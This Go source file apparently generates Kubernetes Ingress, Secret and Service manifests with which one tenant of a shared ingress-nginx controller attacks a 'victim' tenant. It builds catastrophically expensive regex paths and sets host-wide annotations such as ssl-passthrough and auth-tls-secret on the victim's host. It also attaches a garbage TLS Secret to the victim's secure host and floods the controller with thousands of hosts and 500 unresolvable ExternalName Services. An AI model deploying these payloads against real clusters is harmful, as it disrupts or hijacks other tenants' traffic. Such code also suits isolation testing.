package main

import (
	"fmt"
	"strings"
)

// tenantIngress is an Ingress of the tenant. The name of its namespace sorts first, so it is older than the victim's
// Ingresses, since none of them has a creation time. Its values are its name, an annotation, more of its spec, and its
// rules.
const tenantIngress = `---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: %s, namespace: another, annotations: {nginx.ingress.kubernetes.io/%s}}
spec:
  ingressClassName: nginx
%s  rules:
%s`

// tenantRule is one path of a host. Its values are the host, the path, its type and the Service.
const tenantRule = "    - {host: %q, http: {paths: [{path: %q, pathType: %s, backend: {service: {name: %s, port: " +
	"{number: 80}}}}]}}\n"

// noAnnotation is an annotation without effect.
const noAnnotation = `ssl-redirect: "false"`

// tenantOf returns an Ingress with one path.
func tenantOf(annotation, more, host, path, kind string) string {
	return fmt.Sprintf(tenantIngress, "own", annotation, more, fmt.Sprintf(tenantRule, host, path, kind, "own"))
}

// patterns are the most expensive regular expressions that are accepted, on a host of the tenant.
var patterns = func() string {
	const rewrite = "rewrite-target: /x"
	var text strings.Builder
	for i := range 10 {
		rule := fmt.Sprintf(tenantRule, tenantHost, fmt.Sprintf(`/(.*.*.*.*.*.*.*.*.*.*)*%d!`, i),
			"ImplementationSpecific", "own")
		fmt.Fprintf(&text, tenantIngress, fmt.Sprint("patterns-", i), rewrite, "", rule)
	}
	return text.String()
}()

// either returns even or odd, depending on number.
func either(number int, even, odd string) string {
	if number%2 == 0 {
		return even
	}
	return odd
}

// hostWide changes settings that affect a whole host, on the victim's host.
func hostWide(number int) string {
	annotation := either(number, `auth-tls-secret: another/nothing`, `ssl-passthrough: "true"`)
	return tenantOf(annotation, "", hostName(plainHost), fmt.Sprintf("/tenant-%d", number), "Prefix")
}

// ciphers changes the ciphers of a host of the tenant.
func ciphers(number int) string {
	annotation := "ssl-ciphers: " + either(number, "ECDHE-RSA-AES128-GCM-SHA256", "ECDHE-RSA-AES256-GCM-SHA384")
	return tenantOf(annotation, "", tenantHost, "/", "Prefix")
}

// large returns an Ingress with a thousand hosts for every other edit.
func large(number int) string {
	if number%2 == 1 {
		return patterns
	}
	var rules strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&rules, tenantRule, fmt.Sprintf("h%d.%s", i, tenantHost), fmt.Sprintf("/%d", i), "Prefix", "own")
	}
	return fmt.Sprintf(tenantIngress, "own", noAnnotation, "", rules.String())
}

// garbage returns an Ingress that names a Secret without a valid certificate for the victim's host.
func garbage(number int) string {
	tls := fmt.Sprintf("  tls: [{hosts: [%q], secretName: garbage}]\n", hostName(secureHost))
	secret := fmt.Sprintf(
		"---\napiVersion: v1\nkind: Secret\ntype: kubernetes.io/tls\nmetadata: {name: garbage, namespace: another}\n"+
			"stringData: {tls.crt: \"%d\", tls.key: \"%d\"}\n", number, number)
	return tenantOf(noAnnotation, tls, hostName(secureHost), "/tenant", "Prefix") + either(number, secret, "")
}

// names returns Services of type ExternalName whose names do not exist.
func names(number int) string {
	const count = 500
	var text, rules strings.Builder
	for i := range count {
		fmt.Fprintf(&text, "---\napiVersion: v1\nkind: Service\nmetadata: {name: out-%d, namespace: another}\n"+
			"spec: {type: ExternalName, externalName: n%d-%d.invalid, ports: [{port: 80}]}\n", i, i, number)
		fmt.Fprintf(&rules, tenantRule, tenantHost, fmt.Sprintf("/%d", i), "Prefix", fmt.Sprint("out-", i))
	}
	return text.String() + fmt.Sprintf(tenantIngress, "own", noAnnotation, "", rules.String())
}
